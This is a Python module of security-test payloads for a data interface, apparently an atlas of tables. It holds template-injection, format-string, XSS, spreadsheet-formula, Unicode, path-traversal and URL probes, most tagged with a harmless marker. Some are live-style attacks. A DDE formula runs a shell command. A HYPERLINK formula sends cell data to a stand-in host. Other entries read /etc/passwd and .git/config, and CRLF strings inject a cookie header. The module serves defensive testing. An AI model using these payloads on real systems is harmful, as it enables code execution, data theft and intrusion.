"""What somebody could write into a cell, an address or a message to make the atlas act on it.

Every payload carries `MARK`, which no table and no text of the interface holds, or `SUM`, which
a template engine would work out to `RESULT`: a test that finds the one as markup, or the other
at all, has found a hole.
"""

from __future__ import annotations

from collections.abc import Mapping

MARK = "zqx"
SUM = "{{1337*7331}}"
RESULT = "9801547"

TEMPLATE: tuple[str, ...] = (
    SUM,
    "{{ ''.__class__.__mro__ }} zqx",
    "{% for zqx in range(9) %}{{ 1337*7331 }}{% endfor %}",
    "{% raw %}zqx",
    "{# zqx",
    "{{zqx",
    "}}%}#} zqx",
    "${1337*7331} `zqx`",
    "#{1337*7331} zqx",
    "<%= 1337*7331 %>zqx",
)
"""Jinja, JavaScript template strings, and the engines next to them."""

FORMAT: tuple[str, ...] = (
    "{oops} zqx",
    "{0} {} zqx",
    "{0.__class__.__init__.__globals__} zqx",
    "%(zqx)s %s %d %n",
    "%{zqx} %{customdata[0]} %{y:.3f}",
    "{zqx!r:>999999}",
    "$zqx$ \\zqx \\1 \\g<0>",
)
"""Python's two ways to format, Plotly's, regular expressions' and TeX's."""

MARKUP: tuple[str, ...] = (
    "<script>zqx()</script>",
    "<img src=zqx onerror=zqx()>",
    '"><svg onload=zqx()>',
    "'><zqx-tag onclick='zqx()'>",
    "</title></style></textarea></noscript></script><zqx-tag>",
    '<a href="javascript:zqx()">zqx</a>',
    "<!--zqx",
    "--><zqx-tag><!--",
    "]]><zqx-tag><![CDATA[",
    "&lt;script&gt;zqx()&lt;/script&gt;",
    "&#60;zqx-tag&#62; &zqx; &",
    '" onmouseover="zqx()" zqx="',
    "' onfocus='zqx()' autofocus '",
    "` onzqx=`zqx`",
    "<zqx-tag",
    "<iframe srcdoc='<script>zqx()</script>'>",
    "<style>*{background:url(zqx)}</style>",
    "<math><mi//xlink:href='data:x,<script>zqx()</script>'>",
    "</script><script>zqx()//",
    "javascript:zqx()",
    "[zqx](javascript:zqx()) ![zqx](https://zqx.example/x.png) :material/zqx: :red[zqx]",
)
"""HTML, SVG, attributes and Markdown."""

FORMULA: tuple[str, ...] = (
    "=1337*7331+zqx",
    '=HYPERLINK("https://zqx.example?"&A1,"zqx")',
    "+1337*7331+zqx",
    "-1337*7331-zqx",
    "@SUM(1337*7331) zqx",
    "=cmd|' /C zqx'!A0",
    "＝1337*7331 zqx",
    "＋zqx",
    "－zqx",
    "＠zqx",
    'zqx\r=1337*7331,"',
    "zqx\n=1337*7331",
    'zqx",=1337*7331,"',
    "zqx;=1337*7331;",
    "zqx\t=1337*7331",
)
"""What a spreadsheet would work out, at the start of a cell or after a way out of it."""

LETTERS: tuple[str, ...] = (
    "zqx\u202e\u2066txt.exe\u2069",
    "\u200f\u061czqx\u200b\u200d\ufeffzqx",
    "zqx\x00zqx",
    "zqx\x1b[31mzqx\x07\x08",
    "zqx\u2028zqx\u2029zqx\x85zqx",
    "z" + "\u0301\u0347\u036f" * 60 + "qx zqx",
    "zqx\ufffe\uffff\ufffd",
    "ZQX zqx \N{LATIN SMALL LETTER DOTLESS I}\N{LATIN CAPITAL LETTER I WITH DOT ABOVE}ßﬀ",
    "zqx \N{FAMILY}\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f1f9\U0001f1ef\U000e0041",
    "zqx" + "W" * 6000,
    "zqx " + "long words and " * 400 + "zqx",
    "ҷӣӯқғҳ zqx ЖЩЫ 塔吉克 الطاجيك zqx",
)
"""Letters that turn, hide, pile up, break lines or never end."""

PATHS: tuple[str, ...] = (
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "..%252f..%252fetc%252fpasswd",
    "....//....//etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e/%2e%2e/pyproject.toml",
    "/etc/passwd",
    "//zqx.example/x",
    "file:///etc/passwd",
    "C:\\zqx",
    "zqx%00.csv",
    "zqx%0d%0aSet-Cookie:%20zqx=1",
    "zqx%0aX-Zqx:%201",
    "%ff%fe%c0%ae%c0%ae/",
    "%ed%a0%80",
    "%",
    "%zz",
    "%u0041",
    ".",
    "..",
    "~root",
    "con",
    "zqx" * 700,
    "__init__.py",
    "datapackage.json",
    ".git/config",
)
"""Ways out of a folder and out of a line, as parts of an address."""

TEXTS: tuple[str, ...] = (*TEMPLATE, *FORMAT, *MARKUP, *FORMULA, *LETTERS)
"""Everything that may stand in a cell of a table that is UTF-8."""

GROUPS: Mapping[str, tuple[str, ...]] = {
    "template": TEMPLATE,
    "format": FORMAT,
    "markup": MARKUP,
    "formula": FORMULA,
    "letters": LETTERS,
    "paths": PATHS,
}

URLS: tuple[str, ...] = (
    'https://zqx.example/"onmouseover="zqx()',
    "https://zqx.example/'><zqx-tag>",
    "https://zqx.example/{{1337*7331}}{%zqx%}",
    "https://[zqx",
    "https://zqx.example:99999999/",
    "http://zqx@zqx.example/\\..",
    "https://zqx.example/%0d%0aX:%20y",
    "https:///zqx",
    "https://zqx.example/" + "z" * 3000,
    "https://zqx.example/)](javascript:zqx())",
    "http://zqx\u202e.example/\x00",
)
"""What the pattern of an address in the tables lets through."""
